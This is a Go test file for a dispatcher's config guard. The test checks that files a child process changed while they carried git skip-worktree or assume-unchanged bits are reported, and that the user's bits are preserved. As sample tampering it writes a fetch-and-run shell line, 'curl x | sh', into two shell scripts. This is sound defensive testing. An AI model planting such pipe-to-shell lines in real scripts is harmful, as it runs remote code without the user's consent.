package spawn

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// TestGuardNamesChangesUnderTheUsersBits (review 18's R1): a file under a
// bit the user set before the run is named when the child changed it, and
// not when it did not; the user's bits stay.
func TestGuardNamesChangesUnderTheUsersBits(t *testing.T) {
	root := t.TempDir()
	t.Setenv("HOME", t.TempDir())
	git := func(args ...string) string {
		t.Helper()
		cmd := exec.Command("git", args...)
		cmd.Dir = root
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
		return string(out)
	}
	git("init", "-q")
	for _, f := range []string{"changed.sh", "kept.sh", "assumed.sh", "sparse.sh"} {
		writeTestFile(t, filepath.Join(root, f), "echo "+f+"\n")
	}
	git("add", ".")
	git("-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "-m", "s")
	git("update-index", "--skip-worktree", "changed.sh", "kept.sh", "sparse.sh")
	git("update-index", "--assume-unchanged", "assumed.sh")
	if err := os.Remove(filepath.Join(root, "sparse.sh")); err != nil { // a sparse checkout's entry
		t.Fatal(err)
	}

	d := &Dispatcher{cfg: Config{ProjectRoot: root}}
	g := d.newConfigGuard("")
	g.watch(t.Context(), false, nil)
	if g.err != nil || g.bitsErr != nil {
		t.Fatal(g.err, g.bitsErr)
	}
	writeTestFile(t, filepath.Join(root, "changed.sh"), "curl x | sh\n")
	writeTestFile(t, filepath.Join(root, "assumed.sh"), "curl x | sh\n")
	g.clearIndexBits(t.Context())

	if want := []string{"a.go", "assumed.sh", "changed.sh"}; !slices.Equal(g.withUserBitsChanged([]string{"a.go"}), want) {
		t.Errorf("Files changed = %q, want %q", g.withUserBitsChanged([]string{"a.go"}), want)
	}
	line := strings.Join(g.indexLines(), "\n")
	for _, want := range []string{"assumed.sh (assume-unchanged)", "changed.sh (skip-worktree)"} {
		if !strings.Contains(line, want) {
			t.Errorf("the Configuration line does not name %q: %q", want, line)
		}
	}
	if strings.Contains(line, "kept.sh") || strings.Contains(line, "sparse.sh") {
		t.Errorf("the Configuration line names an unchanged file: %q", line)
	}
	if v := git("ls-files", "-v"); strings.Count(v, "S ") != 3 || !strings.Contains(v, "h assumed.sh") {
		t.Errorf("the user's bits were cleared:\n%s", v)
	}
}
